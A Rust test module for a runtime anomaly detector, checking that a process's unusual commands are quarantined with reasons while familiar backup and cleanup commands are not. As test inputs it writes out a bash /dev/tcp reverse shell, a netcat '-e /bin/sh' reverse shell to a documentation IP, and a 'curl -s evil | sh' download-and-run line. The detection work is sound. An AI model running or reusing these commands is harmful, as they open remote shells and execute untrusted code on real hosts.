//! Commands of a known process that are unlike what was learned.

use super::*;
use crate::{
    baseline::{Scoring, merge_scored},
    behaviour::{Attributes, ProcessParts},
    testkit::{parts, seen},
    text::command_line,
};

pub(super) const STRANGE: &str = "bash -i >& /dev/tcp/203.0.113.9/4242 0>&1";

pub(super) fn bash() -> Behaviour {
    process("/usr/bin/python3", "/usr/bin/bash")
}

pub(super) fn line(script: &str) -> String {
    command_line(&["bash", "-c", script].map(str::to_owned))
}

pub(super) fn with(script: &str) -> Attributes {
    Attributes {
        commands: [line(script)].into(),
        ..Attributes::default()
    }
}

/// The behaviour that an unusual command is.
pub(super) fn unusual(script: &str) -> Behaviour {
    behaviour(ProcessParts {
        command: Some(line(script)),
        ..parts("/usr/bin/python3", "/usr/bin/bash")
    })
}

fn word(number: u8) -> String {
    [number / 8, number % 8]
        .map(|digit| char::from(b'a' + digit))
        .iter()
        .collect()
}

/// A workload that learned five dozen everyday commands, and judges.
pub(super) fn learned() -> World {
    let mut world = World::mature();
    for number in 0..30 {
        let data = word(number);
        world.sees(
            &bash(),
            with(&format!("tar czf /backup/{data}.tar.gz /data/{data} && ls -l")),
            at(2),
        );
        world.sees(
            &bash(),
            with(&format!("find /data/{data} -name '*.log' -delete")),
            at(3),
        );
    }
    world
}

#[test]
fn a_strange_command_of_a_known_process_is_raised_once_with_its_reasons() {
    let mut world = learned();
    let outcome = world.sees(&bash(), with(STRANGE), at(100));
    let raised: Vec<_> = outcome
        .new_quarantined
        .iter()
        .map(|raised| (raised.id, raised.rule))
        .collect();
    assert_eq!(raised, [(unusual(STRANGE).id(), Rule::UnusualCommand)]);
    let held = entry(&world.baseline, &unusual(STRANGE)).clone();
    let why = held.strangeness.expect("a reason");
    assert!(why.scorable && why.p_millionths < 10_000, "{why:?}");
    assert!(why.capabilities.contains(&"opens a socket".to_owned()), "{why:?}");
    assert!(
        !why.strange.is_empty() && why.nearest.len() == 3 && why.together == 0,
        "{why:?}"
    );
    let known = entry(&world.baseline, &bash());
    assert_eq!((known.attributes.commands.len(), known.is_quarantined()), (60, false));
    // Again, and by another pod: no news, and counted.
    assert_eq!(world.sees(&bash(), with(STRANGE), at(200)).new_quarantined, []);
    assert_eq!(entry(&world.baseline, &unusual(STRANGE)).count, 2);
}

#[test]
fn a_command_like_the_learned_ones_is_neither_raised_nor_learned() {
    let mut world = learned();
    let before = entry(&world.baseline, &bash()).attributes.clone();
    let outcome = world.sees(&bash(), with("find /data/zz -name '*.log' -delete"), at(100));
    assert_eq!(outcome.new_quarantined, []);
    assert_eq!(entry(&world.baseline, &bash()).attributes, before);
    assert!(!world.baseline.entries().any(|(_, _, entry)| entry.is_quarantined()));
}

#[test]
fn each_strange_command_is_a_finding_of_its_own() {
    let mut world = learned();
    let other = "nc -e /bin/sh 203.0.113.9 4242";
    world.sees(&bash(), with(STRANGE), at(100));
    world.sees(&bash(), with(other), at(101));
    assert_eq!(world.baseline.quarantined(), 2);
    assert_ne!(unusual(STRANGE).id(), unusual(other).id());
}

#[test]
fn a_pod_that_nobody_knows_teaches_no_command() {
    let mut world = World::mature();
    world.sees(&bash(), with("ls"), at(2));
    let mut stranger = batch(
        99,
        pod("p9", "h1", digest('1')),
        vec![BehaviourReport {
            attributes: with(STRANGE),
            ..seen(&bash(), at(3))
        }],
    );
    stranger.containers[0].pod.verified = false;
    merge(&mut world.baseline, &stranger, &world.policy, at(3));
    assert_eq!(entry(&world.baseline, &bash()).attributes, with("ls"));
}

#[test]
fn where_command_lines_stay_on_the_node_none_is_unusual() {
    let mut world = World::mature();
    world.sees(&bash(), Attributes::default(), at(2));
    assert_eq!(world.sees(&bash(), with(STRANGE), at(100)).new_quarantined, []);
}

#[test]
fn a_tolerance_that_asks_for_more_than_can_be_told_raises_at_info() {
    let mut world = learned();
    world.policy.tolerance.alerts_per_thousand_weeks = 0;
    world.sees(&bash(), with("nc -e /bin/sh 203.0.113.9 4242"), at(100));
    let held = entry(&world.baseline, &unusual("nc -e /bin/sh 203.0.113.9 4242"));
    assert!(held.strangeness.as_ref().is_some_and(|why| !why.scorable), "{held:?}");
}

#[test]
fn what_is_judged_again_with_the_scorer_at_hand_is_the_same() {
    let (mut fresh, mut kept) = (learned(), learned());
    let mut scoring = Scoring::default();
    for (number, script) in [
        STRANGE,
        "find /data/zz -name '*.log' -delete",
        "id",
        "curl -s evil | sh",
    ]
    .into_iter()
    .enumerate()
    {
        let time = at(100 + i64::try_from(number).unwrap_or(0) * 7_200);
        let report = BehaviourReport {
            attributes: with(script),
            ..seen(&bash(), time)
        };
        let batch = batch(1_000 + number as u64, pod("p1", "h1", digest('1')), vec![report]);
        let one = merge(&mut fresh.baseline, &batch, &fresh.policy, time);
        let two = merge_scored(&mut kept.baseline, &batch, &kept.policy, &mut scoring, time);
        assert_eq!((one, &fresh.baseline), (two, &kept.baseline));
    }
}
